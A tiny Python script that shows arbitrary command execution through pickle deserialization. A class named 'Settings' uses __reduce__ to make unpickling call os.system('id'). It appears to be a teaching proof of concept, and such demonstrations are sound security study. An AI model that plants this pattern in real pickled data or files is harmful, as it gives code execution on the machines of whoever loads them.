import io
import os
import pickle


class Settings:
    def __reduce__(self):
        return os.system, ("id",)


stream = io.BytesIO(pickle.dumps(Settings()))
pickle.Unpickler(stream).load()
